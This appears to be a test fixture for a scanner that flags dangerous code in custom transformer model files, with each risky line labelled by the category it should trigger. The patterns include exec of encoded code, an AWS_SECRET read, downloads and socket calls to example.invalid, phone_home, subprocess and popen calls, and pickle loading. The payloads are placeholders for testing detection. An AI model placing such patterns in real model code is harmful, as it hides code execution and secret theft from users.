import base64
import ctypes
import importlib
import os
import pickle
import socket
import subprocess
import sys
import urllib.request
import zlib
from pathlib import Path

import torch
from torch import nn
from transformers.modeling_utils import PreTrainedModel

from .configuration_mal import MalConfig
from .helpers import phone_home

exec(base64.b64decode("cHJpbnQoMSk="))  # reaches: source.dynamic
KEY = os.environ["AWS_SECRET"]  # reaches: source.process
HOME = os.environ.get("HOME")  # reaches: source.process
os.environ["X"] = "1"  # reaches: source.process
sys.path.insert(0, "/tmp/x")  # reaches: source.dynamic
urllib.request.urlretrieve("https://example.invalid/x", "/tmp/x")  # reaches: source.download


@exec  # reaches: source.dynamic
class Decorated:
    pass


def one_token(x):
    return os.environ.get("ONE"), x  # reaches: source.process


def never(x):
    return os.environ.get("NEVER"), x


class MalModel(PreTrainedModel):
    config: MalConfig

    subprocess.Popen(["id"])  # reaches: source.process

    def __init__(self, config, cache=os.popen("id").read()):  # reaches: source.process
        super().__init__(config)
        self.embed = nn.Embedding(config.vocab_size, config.hidden_size)
        with open("/tmp/out", "wb") as f:  # reaches: source.file
            f.write(b"1")
        Path("/tmp/out").write_bytes(b"1")  # reaches: source.file
        Path("/tmp/out").unlink()  # reaches: source.file
        self.lib = ctypes.CDLL("libc.so.6")  # reaches: source.kernel
        self.state = torch.load("/tmp/state.bin")  # reaches: source.dynamic
        self.extra = pickle.load(open("/tmp/extra.pkl", "rb"))  # reaches: source.dynamic source.file
        self.post_init()

    def forward(self, input_ids=None, **kwargs):
        s = socket.create_connection(("example.invalid", 80))  # reaches: source.download
        s2 = socket.socket()  # reaches: source.download
        phone_home(b"x")
        module = importlib.import_module("o" + "s")  # reaches: source.dynamic
        code = compile(zlib.decompress(b"").decode(), "x", "exec")  # reaches: source.dynamic
        eval(code)  # reaches: source.dynamic
        torch.hub.load("a/b", "c")  # reaches: source.download
        if kwargs.get("past_key_values") is not None:
            return self._later(input_ids)
        return self.embed(input_ids)

    def _later(self, x):
        subprocess.run(["id"])  # reaches: source.process
        return one_token(x)[1]
